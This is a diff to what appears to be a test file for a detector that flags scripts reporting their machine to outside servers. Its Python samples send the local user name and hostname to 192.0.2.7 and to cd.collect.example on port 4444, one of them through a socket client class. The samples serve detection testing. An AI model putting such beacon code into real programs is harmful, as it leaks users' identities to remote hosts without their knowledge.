@@ -45,13 +45,13 @@ testOnFacts([scriptReportsItsMachine], {
         'import os, requests',
         'requests.get("http://192.0.2.7/?u=" + os.environ["USERNAME"])',
       ),
-      'by a class of its own, to one of the servers that the file names': python(
+      'by a class of its own, to a server that the file names elsewhere': python(
         'import socket, getpass',
-        'HOSTS = ["cd.collect.example", "ce.collect.example"]',
         'class Client:',
-        '    def start(self, number):',
+        '    told = {"host": "cd.collect.example", "port": 4444}',
+        '    def start(self):',
         '        self.sock = socket.socket()',
-        '        self.sock.connect((HOSTS[number], 4444))',
+        '        self.sock.connect(self.where())',
         '        name = socket.gethostname() + "|" + getpass.getuser()',
         '        self.sock.sendall(name.encode())',
       ),
